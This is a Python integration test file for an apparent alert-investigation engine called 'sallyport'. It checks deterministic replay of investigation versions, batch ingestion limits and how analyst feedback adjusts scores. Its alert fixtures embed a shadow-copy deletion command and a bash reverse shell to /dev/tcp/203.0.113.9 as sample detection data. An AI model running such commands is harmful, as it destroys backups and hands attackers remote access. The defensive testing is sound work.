#!/usr/bin/env python3
"""What a running engine makes of alerts, and of what people say of it: investigations_test.py BINARY.

Every version of a verdict is made again from the store; people's verdicts teach, and close nothing.
"""
import http.client
import json
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import unittest

BINARY = str(pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else "build/release/sallyport").resolve())
SOURCE = pathlib.Path(__file__).resolve().parents[2]
TOKEN = "siem-token-0123456789"
PATIENCE_S = 30

# One detection on one host, told three times: each time it says more.
ALERTS = [
    {"id": "a1", "title": "Odd process", "rule_id": "R1", "host": "web1", "severity": "medium"},
    {"id": "a2", "title": "Odd process", "rule_id": "R1", "host": "web1", "severity": "low",
     "message": "vssadmin delete shadows /all"},
    {"id": "a3", "title": "Odd process", "rule_id": "R1", "host": "web1", "severity": "critical",
     "message": "cmd /c vssadmin delete shadows; bash -i >& /dev/tcp/203.0.113.9/443"},
]


class Engine:
    def __init__(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="sallyport-versions-"))
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            self.port = free.getsockname()[1]
        (self.folder / "token").write_text(TOKEN)
        (self.folder / "token").chmod(0o600)
        (self.folder / "policy.yaml").write_text(
            "tenants: { acme: { tier: L1, authority: { owner: a@acme.example, approved: 2026-01-01, review_by: 2099-01-01 } } }\n")
        settings = {
            "data_dir": str(self.folder / "data"), "policy": str(self.folder / "policy.yaml"),
            "reasoner": str(SOURCE / "config/reasoner.yaml"), "grouping": str(SOURCE / "config/grouping.yaml"),
            "schemas": str(SOURCE / "schemas"),
            "http": {"listen": f"127.0.0.1:{self.port}", "tokens": [
                {"name": "siem", "secret": f"file:{self.folder / 'token'}", "tenant": "acme", "roles": ["ingest", "analyst"]}]},
        }
        (self.folder / "sallyport.yaml").write_text(json.dumps(settings))
        self.process = subprocess.Popen([BINARY, "run", "--config", self.folder / "sallyport.yaml"],
                                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.until(lambda: self.call("GET", "/readyz")[0] == 200)

    def call(self, method, path, body=None):
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        try:
            connection.request(method, path, body, {"Authorization": f"Bearer {TOKEN}"})
            answer = connection.getresponse()
            return answer.status, answer.read()
        except OSError:
            return 0, b""
        finally:
            connection.close()

    def until(self, true):
        end = time.monotonic() + PATIENCE_S
        while not true():
            if time.monotonic() > end:
                raise AssertionError("it did not come true")
            time.sleep(0.02)

    def stop(self):
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            self.process.wait(PATIENCE_S)

    def close(self):
        self.stop()
        shutil.rmtree(self.folder, ignore_errors=True)

    def newest(self):
        items = json.loads(self.call("GET", "/v1/investigations")[1]).get("items", [])
        return items[0] if items else {"version": 0}

    def replay(self, *arguments):
        return subprocess.run([BINARY, "replay", *arguments, "--data", self.folder / "data"],
                              capture_output=True, encoding="utf-8", check=False)


class Versions(unittest.TestCase):
    def test_each_comes_to_the_same_byte_for_byte(self):
        engine = Engine()
        self.addCleanup(engine.close)
        for version, alert in enumerate(ALERTS, 1):
            status, answer = engine.call("POST", "/v1/alerts", json.dumps(alert))
            self.assertEqual(status, 202, answer)
            engine.until(lambda version=version: engine.newest()["version"] == version)
        newest = engine.newest()
        self.assertEqual(newest["count"], 3)
        engine.stop()
        again = engine.replay(newest["investigation"])
        self.assertEqual(again.returncode, 0, again.stdout + again.stderr)
        lines = again.stdout.splitlines()
        self.assertEqual(len(lines), 3, again.stdout)
        self.assertTrue(all(": the same: " in line for line in lines), again.stdout)
        self.assertIn(" version 3: ", lines[2])

        # Under other rules every version shows what they change.
        rules = (SOURCE / "config/reasoner.yaml").read_text().replace("text.shadow_copies: { weight: 1.5 }", "text.shadow_copies: { weight: 0.1 }")
        (engine.folder / "other.yaml").write_text(rules)
        other = engine.replay(newest["investigation"], "--reasoner", engine.folder / "other.yaml", "--json")
        self.assertEqual(other.returncode, 1, other.stderr)
        self.assertEqual([(one["version"], one["same"]) for one in map(json.loads, other.stdout.splitlines())],
                         [(1, True), (2, False), (3, False)])


class Batches(unittest.TestCase):
    def test_every_alert_of_one_is_investigated_and_one_that_cannot_be_is_named(self):
        engine = Engine()
        self.addCleanup(engine.close)

        def send(*alerts):
            status, answer = engine.call("POST", "/v1/alerts", json.dumps({"records": alerts}))
            return status, json.loads(answer)["results"][0]

        def known():
            return {one["uid"] for one in json.loads(engine.call("GET", "/v1/alerts")[1])["items"]}

        one, two, three = ({"id": f"b{n}", "title": f"Odd job {n}", "host": f"host-{n}"} for n in (1, 2, 3))
        status, answer = send(one, two)
        self.assertEqual((status, answer["status"]), (202, "accepted"))
        self.assertEqual(known(), {"b1", "b2"}, "what was accepted is durable")
        engine.until(lambda: len(json.loads(engine.call("GET", "/v1/investigations")[1])["items"]) == 2)
        status, answer = send(one, {"id": "none"}, three)
        self.assertEqual((status, answer["status"]), (400, "refused"))
        self.assertIn("2 of 3: no source recognises it", answer["reason"])
        self.assertEqual(known(), {"b1", "b2", "b3"})
        # A list is a batch as well; a message of Kafka can be one.
        four, five = ({"id": f"b{n}", "title": f"Odd job {n}", "host": f"host-{n}"} for n in (4, 5))
        status, answer = engine.call("POST", "/v1/alerts", json.dumps([[four, five], ["["]]))
        self.assertEqual([one["status"] for one in json.loads(answer)["results"]], ["accepted", "refused"], answer)
        self.assertEqual(known(), {"b1", "b2", "b3", "b4", "b5"})
        status, answer = engine.call("POST", "/v1/alerts", f"[{'[' * 200000}")
        self.assertEqual(status, 400, answer)
        self.assertEqual(engine.call("POST", "/v1/alerts", json.dumps([[[four]]]))[0], 400)
        status, answer = send(*[one] * 1001)
        self.assertIn("1001 alerts in one: at most 1000", answer["reason"])
        engine.stop()
        verified = subprocess.run([BINARY, "ledger", "verify", "--data", engine.folder / "data"], capture_output=True, check=False)
        self.assertEqual(verified.returncode, 0, verified.stderr)


class Feedback(unittest.TestCase):
    def test_people_alone_teach_and_what_they_taught_lowers_and_never_closes(self):
        engine = Engine()
        self.addCleanup(engine.close)

        def verdict_of(number):
            alert = {"id": f"f{number}", "title": "Odd job", "rule_id": "R9", "host": f"host-{number}", "severity": "low"}
            self.assertEqual(engine.call("POST", "/v1/alerts", json.dumps(alert))[0], 202)
            engine.until(lambda: alert["id"] in engine.newest().get("alerts", []))
            return json.loads(engine.call("GET", "/v1/investigations/" + engine.newest()["investigation"])[1])

        def learned():
            return json.loads(engine.call("GET", "/v1/learned")[1])["items"]

        first = [verdict_of(number) for number in range(10)]
        self.assertEqual(learned(), [], "the engine's own verdicts taught something")
        for one in first:
            status, answer = engine.call("POST", f"/v1/investigations/{one['investigation']}/verdict",
                                         json.dumps({"verdict": "false_positive", "comment": "our own job"}))
            self.assertIn(status, (200, 201, 204), answer)
        engine.until(lambda: learned() and learned()[0]["investigations"] == 10)
        self.assertEqual((learned()[0]["detection"], learned()[0]["benign"], len(learned())), ("R9", 10, 1))

        taught = verdict_of(10)
        terms = {term["term"]: term["weight"] for term in taught["explanation"]}
        self.assertLess(terms["people.benign"], -0.5)
        self.assertEqual(taught["verdict"], "inconclusive", "what people taught closed an alert")
        self.assertEqual([p for p in taught["proposals"] if p["parameters"].get("status") == "resolved"], [])

        status, answer = engine.call("POST", "/v1/learned/reset",
                                     json.dumps({"source": "generic", "detection": "R9", "reason": "the job is gone"}))
        self.assertIn(status, (200, 204), answer)
        engine.until(lambda: learned() == [])
        self.assertNotIn("people.benign", {term["term"] for term in verdict_of(11)["explanation"]})


if __name__ == "__main__":
    unittest.main(argv=sys.argv[:1])
